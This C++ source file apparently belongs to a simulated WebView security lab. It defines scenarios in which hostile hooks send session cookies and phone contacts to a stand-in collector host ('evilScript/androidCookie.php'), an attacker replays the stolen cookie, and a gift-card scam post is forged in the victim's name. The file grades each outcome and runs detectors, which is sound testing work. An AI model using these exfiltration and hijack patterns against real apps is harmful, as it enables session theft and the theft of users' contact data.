/*
 * Copyright 2026 The wvlab Authors
 *
 * Licensed under the Apache License, Version 2.0 (the "License");
 * you may not use this file except in compliance with the License.
 * You may obtain a copy of the License at
 *
 *     http://www.apache.org/licenses/LICENSE-2.0
 *
 * Unless required by applicable law or agreed to in writing, software
 * distributed under the License is distributed on an "AS IS" BASIS,
 * WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
 * See the License for the specific language governing permissions and
 * limitations under the License.
 */

#include "wvlab/scenario.hpp"

#include <algorithm>
#include <array>
#include <utility>

#include "wvlab/error.hpp"
#include "wvlab/form.hpp"

namespace wvlab {
namespace {

template <class... Fs>
struct Overloaded : Fs... {
  using Fs::operator()...;
};
template <class... Fs>
Overloaded(Fs...) -> Overloaded<Fs...>;

constexpr std::array<std::pair<Outcome, std::string_view>, 4> kOutcomeNames{{
    {Outcome::AttackSucceeded, "AttackSucceeded"},
    {Outcome::AttackBlocked, "AttackBlocked"},
    {Outcome::BenignClean, "BenignClean"},
    {Outcome::Error, "Error"},
}};

/// One scenario's world. Handlers hold pointers into it, so it never moves.
class World {
 public:
  explicit World(const Scenario& s) : board(s.world.board_host) {
    for (const auto& u : s.world.users) board.add_user(u.username, u.password);
    for (const auto& c : s.world.contacts) device.add_contact(c);
    for (auto p : s.world.permissions) device.grant(p);
    net.register_server(board.host(),
                        [this](const HttpRequest& r, Tick t) { return board.handle(r, t); });
    if (s.world.collector_host) {
      collector.emplace();
      net.register_server(*s.world.collector_host,
                          [this](const HttpRequest& r, Tick t) { return collector->handle(r, t); });
    }
  }
  World(const World&) = delete;
  World& operator=(const World&) = delete;

  std::span<const CollectorServer::Payload> payloads() const {
    if (!collector) return {};
    return collector->payloads();
  }

  Timeline timeline;
  VirtualNet net;
  Device device{timeline};
  BoardServer board;
  std::optional<CollectorServer> collector;
  WebViewHost webview{device, net, timeline};
};

// The cookie string of the most recent payload that carries one.
std::optional<std::string> stolen_cookie(std::span<const CollectorServer::Payload> payloads) {
  for (auto it = payloads.rbegin(); it != payloads.rend(); ++it) {
    const std::string& body = it->body;
    const auto pos = body.find("cookie=");
    if (pos == std::string::npos) continue;
    const auto start = pos + 7;
    const auto end = body.find('&', start);
    std::string cookie = body.substr(start, end == std::string::npos ? std::string::npos : end - start);
    if (!cookie.empty()) return cookie;
  }
  return std::nullopt;
}

bool host_declared(const WorldSetup& w, std::string_view host) {
  return host == w.board_host || (w.collector_host && host == *w.collector_host);
}

void validate_page_url(const WorldSetup& w, const std::string& raw, std::size_t index) {
  Url url;
  try {
    url = parse_url(raw);
  } catch (const ParseError& e) {
    throw ValidationError("step " + std::to_string(index) + ": " + e.what());
  }
  if (!host_declared(w, url.host)) {
    throw ValidationError("step " + std::to_string(index) + ": host '" + url.host +
                          "' is not declared in the world");
  }
}

std::string load_result(LoadOutcome o, const WebViewHost& wv) {
  std::string out(to_string(o));
  if (o == LoadOutcome::Loaded && wv.current_page()) {
    out += " " + std::to_string(wv.current_page()->status);
  }
  return out;
}

struct RunState {
  bool attack_step_failed = false;
  std::optional<std::string> error;
};

std::string run_step(World& w, const Scenario& s, const Step& st, std::size_t index,
                     RunState& state, ScenarioReport& report) {
  const std::string board_base = "http://" + s.world.board_host;

  auto page_load = [&](auto&& load) -> std::string {
    try {
      const LoadOutcome o = load();
      if (o == LoadOutcome::Error) state.error = w.webview.last_error();
      return load_result(o, w.webview);
    } catch (const PermissionDenied&) {
      return "PermissionDenied";
    }
  };

  auto attacker = [&](Method method, const std::string& path,
                      std::optional<std::string> body) -> std::string {
    const auto cookie = stolen_cookie(w.payloads());
    if (!cookie) {
      state.attack_step_failed = true;
      return "NoStolenCookie";
    }
    const HttpRequest req = build_request(method, board_base + path, {{"Cookie", *cookie}},
                                          std::move(body));
    const HttpResponse resp = w.net.execute(req, w.timeline.next(), std::nullopt,
                                            Initiator::External);
    if (resp.status != 200) state.attack_step_failed = true;
    report.attacker_exchanges.push_back({index, method, path, resp.status, resp.body});
    return "status " + std::to_string(resp.status);
  };

  return std::visit(
      Overloaded{
          [&](const step::LoadUrl& x) {
            return page_load([&] { return w.webview.load_url(x.url); });
          },
          [&](const step::Navigate& x) {
            return page_load([&] { return w.webview.navigate(x.url); });
          },
          [&](const step::Login& x) {
            const std::string body = form_encode({{"username", x.username}, {"password", x.password}});
            return page_load([&] { return w.webview.post_url(board_base + "/login", body); });
          },
          [&](const step::PostMessage& x) {
            const std::string body = form_encode({{"text", x.text}});
            return page_load([&] { return w.webview.post_url(board_base + "/post", body); });
          },
          [&](const step::AttackerReplayCookie& x) {
            return attacker(Method::Get, x.path, std::nullopt);
          },
          [&](const step::AttackerPost& x) {
            return attacker(Method::Post, "/post", form_encode({{"text", x.text}}));
          },
          [&](const step::GrantPermission& x) {
            w.device.grant(x.permission);
            return std::string("granted ") + std::string(to_string(x.permission));
          },
          [&](const step::RevokePermission& x) {
            w.device.revoke(x.permission);
            return std::string("revoked ") + std::string(to_string(x.permission));
          },
      },
      st);
}

std::vector<GroundTruthEvent> ground_truth(const HookBehavior& hooks,
                                           std::span<const CollectorServer::Payload> payloads) {
  std::vector<GroundTruthEvent> truth;
  for (const auto& p : payloads) {
    if (hooks.kind == HookBehavior::Kind::ExfiltrateCookies) {
      truth.push_back({FindingKind::CookieExfiltration, p.tick});
    } else if (hooks.kind == HookBehavior::Kind::ExfiltrateContacts && !p.body.empty()) {
      truth.push_back({FindingKind::ContactExfiltration, p.tick});
    }
  }
  return truth;
}

void grade(const Scenario& s, ScenarioReport& r) {
  auto fail = [&](std::string why) { r.expectation_failures.push_back(std::move(why)); };
  if (r.outcome != s.expected.outcome) {
    fail("outcome " + std::string(to_string(r.outcome)) + ", expected " +
         std::string(to_string(s.expected.outcome)));
  }
  for (const auto& needle : s.expected.collector_contains) {
    const bool found = std::any_of(r.collector_payloads.begin(), r.collector_payloads.end(),
                                   [&](const auto& p) { return p.body.find(needle) != std::string::npos; });
    if (!found) fail("no collector payload contains '" + needle + "'");
  }
  for (const auto& post : s.expected.board_posts_contain) {
    if (std::find(r.board_posts.begin(), r.board_posts.end(), post) == r.board_posts.end()) {
      fail("board has no post by '" + post.author + "' reading '" + post.text + "'");
    }
  }
  if (s.expected.attacker_matches_victim) {
    std::size_t compared = 0;
    for (const auto& ex : r.attacker_exchanges) {
      if (ex.method != Method::Get || ex.status != 200) continue;
      const auto victim = std::find_if(r.pages.begin(), r.pages.end(), [&](const Page& p) {
        return p.url.path == ex.path && p.status == 200;
      });
      if (victim == r.pages.end()) {
        fail("victim never saw " + ex.path);
      } else if (victim->body != ex.body) {
        fail("attacker response for " + ex.path + " differs from the victim's page");
      }
      ++compared;
    }
    if (compared == 0) fail("no successful attacker GET to compare with the victim's view");
  }
  r.expected_met = r.expectation_failures.empty();
}

}  // namespace

std::string_view step_kind(const Step& s) {
  return std::visit(Overloaded{
                        [](const step::LoadUrl&) { return std::string_view("LoadUrl"); },
                        [](const step::Navigate&) { return std::string_view("Navigate"); },
                        [](const step::Login&) { return std::string_view("Login"); },
                        [](const step::PostMessage&) { return std::string_view("PostMessage"); },
                        [](const step::AttackerReplayCookie&) {
                          return std::string_view("AttackerReplayCookie");
                        },
                        [](const step::AttackerPost&) { return std::string_view("AttackerPost"); },
                        [](const step::GrantPermission&) {
                          return std::string_view("GrantPermission");
                        },
                        [](const step::RevokePermission&) {
                          return std::string_view("RevokePermission");
                        },
                    },
                    s);
}

bool is_attacker_step(const Step& s) {
  return std::holds_alternative<step::AttackerReplayCookie>(s) ||
         std::holds_alternative<step::AttackerPost>(s);
}

std::string_view to_string(Outcome o) {
  for (const auto& [outcome, name] : kOutcomeNames) {
    if (outcome == o) return name;
  }
  return "?";
}

std::optional<Outcome> outcome_from_string(std::string_view s) {
  for (const auto& [outcome, name] : kOutcomeNames) {
    if (name == s) return outcome;
  }
  return std::nullopt;
}

void validate(const Scenario& s) {
  if (s.name.empty()) throw ValidationError("scenario name must not be empty");
  const WorldSetup& w = s.world;
  try {
    if (parse_url("http://" + w.board_host).host != w.board_host) {
      throw ValidationError("board_host must be lowercase");
    }
    if (w.collector_host && parse_url("http://" + *w.collector_host).host != *w.collector_host) {
      throw ValidationError("collector_host must be lowercase");
    }
  } catch (const ParseError& e) {
    throw ValidationError(std::string("invalid host: ") + e.what());
  }
  if (w.collector_host && *w.collector_host == w.board_host) {
    throw ValidationError("board_host and collector_host must differ");
  }
  for (const auto& u : w.users) {
    if (u.username.empty()) throw ValidationError("user with empty username");
  }
  for (const auto& c : w.contacts) {
    if (c.display_name.empty()) throw ValidationError("contact with empty display_name");
  }
  if (s.hooks.exfiltrates()) {
    if (!s.hooks.collector) throw ValidationError("exfiltrating hook needs a collector URL");
    if (!w.collector_host || s.hooks.collector->host != *w.collector_host) {
      throw ValidationError("hook collector host '" + s.hooks.collector->host +
                            "' is not the declared collector_host");
    }
  }
  for (std::size_t i = 0; i < s.steps.size(); ++i) {
    const Step& st = s.steps[i];
    if (const auto* x = std::get_if<step::LoadUrl>(&st)) validate_page_url(w, x->url, i);
    if (const auto* x = std::get_if<step::Navigate>(&st)) validate_page_url(w, x->url, i);
    if (const auto* x = std::get_if<step::AttackerReplayCookie>(&st)) {
      if (x->path.empty() || x->path.front() != '/') {
        throw ValidationError("step " + std::to_string(i) + ": path must start with '/'");
      }
    }
  }
}

ScenarioReport run_scenario(const Scenario& s) {
  validate(s);
  World w(s);
  ScenarioReport r;
  r.name = s.name;
  r.expected_outcome = s.expected.outcome;

  w.webview.attach_client(HookSet{s.hooks});

  RunState state;
  for (std::size_t i = 0; i < s.steps.size() && !state.error; ++i) {
    std::string result;
    try {
      result = run_step(w, s, s.steps[i], i, state, r);
    } catch (const Error& e) {
      state.error = e.what();
      result = std::string("Error: ") + e.what();
    }
    r.steps.push_back({i, std::string(step_kind(s.steps[i])), std::move(result)});
  }

  r.collector_payloads.assign(w.payloads().begin(), w.payloads().end());
  r.pages.assign(w.webview.rendered().begin(), w.webview.rendered().end());
  r.board_posts.assign(w.board.posts().begin(), w.board.posts().end());
  r.ground_truth = ground_truth(s.hooks, w.payloads());

  const bool attacker_present =
      s.hooks.exfiltrates() || std::any_of(s.steps.begin(), s.steps.end(), is_attacker_step);
  if (state.error) {
    r.outcome = Outcome::Error;
    r.error = *state.error;
  } else if (!attacker_present) {
    r.outcome = Outcome::BenignClean;
  } else {
    const bool exfiltrated = !s.hooks.exfiltrates() || !r.ground_truth.empty();
    r.outcome = exfiltrated && !state.attack_step_failed ? Outcome::AttackSucceeded
                                                         : Outcome::AttackBlocked;
  }

  const auto audit = w.timeline.events();
  r.audit.assign(audit.begin(), audit.end());
  for (const auto& rec : w.net.log()) {
    r.net_log.push_back({rec.tick, rec.initiator, rec.requester_origin, rec.request.method,
                         rec.request.uri.str(), rec.request.headers, rec.request.body,
                         rec.response.status, rec.response.headers, rec.response.body.size()});
  }

  r.findings = analyze(DetectorInput{w.timeline.events(), w.net.log(),
                                     w.device.cookie_jar().history(), w.device.contacts()});
  grade(s, r);
  return r;
}

std::vector<Scenario> builtin_scenarios() {
  const std::string board = "victim.example";
  const std::string collector = "evilscript";
  const std::string login_page = "http://victim.example/login";
  const std::string forum = "http://victim.example/forum/list";
  const std::string account = "http://victim.example/account";
  const Url cookie_sink = parse_url("http://evilScript/androidCookie.php");
  const Url contacts_sink = parse_url("http://evilScript/contacts.php");
  const UserCredential alice{"alice", "wonderland"};
  const std::string stolen = "sessionid=" + BoardServer::session_id(1);

  WorldSetup world{board, collector, {alice}, {}, {Permission::Internet}};
  const std::vector<Step> login_steps{step::LoadUrl{login_page},
                                      step::Login{alice.username, alice.password}};
  auto with = [&](std::vector<Step> tail) {
    std::vector<Step> steps = login_steps;
    steps.insert(steps.end(), tail.begin(), tail.end());
    return steps;
  };

  std::vector<Scenario> out;

  out.push_back({"cookie_steal", world, HookBehavior::exfiltrate_cookies(cookie_sink),
                 with({step::Navigate{forum}}),
                 ExpectedOutcome{Outcome::AttackSucceeded, {stolen, forum}, {}, false}});

  out.push_back({"session_hijack", world, HookBehavior::exfiltrate_cookies(cookie_sink),
                 with({step::Navigate{account}, step::AttackerReplayCookie{"/account"}}),
                 ExpectedOutcome{Outcome::AttackSucceeded, {stolen}, {}, true}});

  const std::string forged = "I am leaving this board. Send gift cards to evilscript.";
  out.push_back({"impersonate", world, HookBehavior::exfiltrate_cookies(cookie_sink),
                 with({step::Navigate{forum}, step::PostMessage{"hello from alice"},
                       step::AttackerPost{forged}}),
                 ExpectedOutcome{Outcome::AttackSucceeded,
                                 {stolen},
                                 {{alice.username, "hello from alice"}, {alice.username, forged}},
                                 false}});

  WorldSetup phone = world;
  phone.contacts = {
      {"Bob Builder", "+1-555-0101", "bob@example.org"},
      {"Carol Danvers", "+1-555-0102", "carol@example.org"},
      {"Dave Lister", "+1-555-0103", "dave@example.org"},
  };
  phone.permissions.push_back(Permission::ReadContact);
  std::vector<std::string> contact_data;
  for (const auto& c : phone.contacts) {
    contact_data.push_back(c.phone);
    contact_data.push_back(*c.email);
  }
  out.push_back({"contact_exfil", phone, HookBehavior::exfiltrate_contacts(contacts_sink),
                 {step::LoadUrl{login_page}},
                 ExpectedOutcome{Outcome::AttackSucceeded, contact_data, {}, false}});

  WorldSetup plain{board, std::nullopt, {alice}, {}, {Permission::Internet}};
  out.push_back({"benign_browse", plain, HookBehavior::pass_through(),
                 with({step::Navigate{forum}, step::PostMessage{"hello"}, step::Navigate{account}}),
                 ExpectedOutcome{Outcome::BenignClean, {}, {{alice.username, "hello"}}, false}});
  return out;
}

std::optional<Scenario> find_builtin(std::string_view name) {
  for (auto& s : builtin_scenarios()) {
    if (s.name == name) return std::move(s);
  }
  return std::nullopt;
}

Scenario passthrough_variant(Scenario s) {
  s.hooks = HookBehavior::pass_through();
  const bool attacker_steps = std::any_of(s.steps.begin(), s.steps.end(), is_attacker_step);
  s.expected = ExpectedOutcome{attacker_steps ? Outcome::AttackBlocked : Outcome::BenignClean,
                               {}, {}, false};
  return s;
}

Scenario permission_stripped(Scenario s, Permission p) {
  std::erase(s.world.permissions, p);
  std::erase_if(s.steps, [p](const Step& st) {
    const auto* g = std::get_if<step::GrantPermission>(&st);
    return g && g->permission == p;
  });
  s.expected = ExpectedOutcome{Outcome::AttackBlocked, {}, {}, false};
  return s;
}

}  // namespace wvlab
